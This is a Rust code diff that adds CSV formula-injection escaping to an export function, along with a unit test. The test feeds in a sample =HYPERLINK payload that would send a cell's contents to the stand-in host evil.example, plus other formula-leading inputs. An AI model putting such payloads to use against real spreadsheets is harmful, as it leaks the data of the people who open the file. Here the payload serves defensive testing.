@@ -160,11 +160,17 @@ pub const CSV_HEADER: [&str; 10] = [
 ];
 
 /// One CSV field: quoted when it contains `;`, `"`, CR or LF (quotes doubled), as RFC 4180 with `;`.
+/// A text a spreadsheet would read as a formula (starting with `=`, `+`, `-`, `@`, tab or CR —
+/// a provider can name itself `=HYPERLINK(…)`) is prefixed with `'`, so it stays text. Plain
+/// numbers (amounts, negative or not) are left as they are.
 pub fn csv_field(value: &str) -> String {
+    let number = !value.is_empty() && value.trim_start_matches('-').bytes().all(|b| b.is_ascii_digit() || b == b'.') && value.trim_start_matches('-').bytes().any(|b| b.is_ascii_digit());
+    let formula = !number && value.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let value = if formula { format!("'{value}") } else { value.to_string() };
     if value.contains([';', '"', '\n', '\r']) {
         format!("\"{}\"", value.replace('"', "\"\""))
     } else {
-        value.to_string()
+        value
     }
 }
 
@@ -185,6 +191,17 @@ pub fn euro_plain(cents: i64) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn csv_cells_that_a_spreadsheet_would_run_as_formulas_stay_text() {
+        assert_eq!(csv_field("=HYPERLINK(\"http://evil.example/?x=\"&C2;\"Dettagli\")"), "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&C2;\"\"Dettagli\"\")\"");
+        for risky in ["+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
+            assert!(csv_field(risky).trim_start_matches('"').starts_with('\''), "{risky:?}");
+        }
+        assert_eq!(csv_field("-258.22"), "-258.22", "a negative amount stays a number");
+        assert_eq!(csv_field("258.22"), "258.22");
+        assert_eq!(csv_field("Società Veneta"), "Società Veneta");
+    }
 
     #[test]
     fn every_attempt_state_belongs_to_exactly_one_queue() {
